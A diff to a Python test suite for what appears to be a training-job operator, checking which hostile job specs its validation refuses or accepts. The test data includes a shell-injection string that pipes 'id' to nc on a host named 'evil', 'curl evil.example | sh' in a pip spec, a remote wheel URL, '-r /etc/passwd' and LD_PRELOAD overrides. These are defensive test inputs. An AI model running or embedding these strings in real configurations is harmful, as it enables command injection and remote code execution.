@@ -22,6 +22,7 @@ from tests.support.runs import rayclusters, run_of
 from tests.support.waiting import wait_until
 
 RTL_OVERRIDE = "\u202e"
+SHELL = "$(touch /tmp/pwned); `id` | nc evil 1 & echo ${HOME} > /dev/null"
 
 
 def manifest(name: str = "hostile", **spec_changes: Any) -> dict[str, Any]:
@@ -72,6 +73,11 @@ REFUSED: list[tuple[str, dict[str, Any], str]] = [
     ("pip URL", with_spec("runtimeEnv.pip", ["https://evil.example/x.whl"]), "spec.runtimeEnv.pip"),
     ("pip requirements file", with_spec("runtimeEnv.pip", ["-r /etc/passwd"]), "spec.runtimeEnv.pip"),
     ("pip shell", with_spec("runtimeEnv.pip", ["numpy; curl evil.example | sh"]), "spec.runtimeEnv.pip"),
+    (
+        "shell metacharacters in an S3 URI",
+        with_spec("checkpoint.resume", f"s3://fsdp-e2e/{SHELL}"),
+        "spec.checkpoint.resume",
+    ),
     ("env LD_PRELOAD", with_spec("runtimeEnv.env", {"LD_PRELOAD": "/tmp/x.so"}), "spec.runtimeEnv.env"),
     ("env PYTHONPATH", with_spec("runtimeEnv.env", {"PYTHONPATH": "/tmp"}), "spec.runtimeEnv.env"),
     ("env AWS_*", with_spec("runtimeEnv.env", {"AWS_ACCESS_KEY_ID": "AKIA"}), "spec.runtimeEnv.env"),
@@ -143,7 +149,6 @@ REFUSED: list[tuple[str, dict[str, Any], str]] = [
     ),
 ]
 
-SHELL = "$(touch /tmp/pwned); `id` | nc evil 1 & echo ${HOME} > /dev/null"
 # (case, manifest): admitted, and the operator takes them up without crashing.
 ACCEPTED: list[tuple[str, dict[str, Any]]] = [
     ("a one-letter name", renamed("a")),
@@ -151,9 +156,8 @@ ACCEPTED: list[tuple[str, dict[str, Any]]] = [
         "a 253-character name with dots",
         renamed(".".join(["abcdefghijklmnopqrstuvwxyz0123456789abcdefghijkl"] * 5)[:253]),
     ),
-    ("shell metacharacters in the data source", with_spec("data.source", f"s3://fsdp-e2e/{SHELL}.jsonl")),
+    ("shell metacharacters in the data source", with_spec("data.source", f"/data/{SHELL}.jsonl")),
     ("shell metacharacters in an env value", with_spec("runtimeEnv.env", {"GREETING": SHELL})),
-    ("shell metacharacters in the resume URI", with_spec("checkpoint.resume", f"s3://fsdp-e2e/{SHELL}")),
     (
         "pip with extras and versions",
         with_spec("runtimeEnv.pip", ["transformers[torch]>=4.40,<5", "numpy==2.*"]),
@@ -244,4 +248,4 @@ def test_accepted_inputs_are_handled_without_an_operator_crash(
     assert refused["phase"] == "Failed" and failed["reason"] == "InvalidSpec", refused
     assert failed["message"].startswith("spec.model.fromConfig: "), failed
     stored = run_of(namespace, cases[2][1]["metadata"]["name"])
-    assert stored["spec"]["data"]["source"] == f"s3://fsdp-e2e/{SHELL}.jsonl"  # kept verbatim, never run
+    assert stored["spec"]["data"]["source"] == f"/data/{SHELL}.jsonl"  # kept verbatim, never run
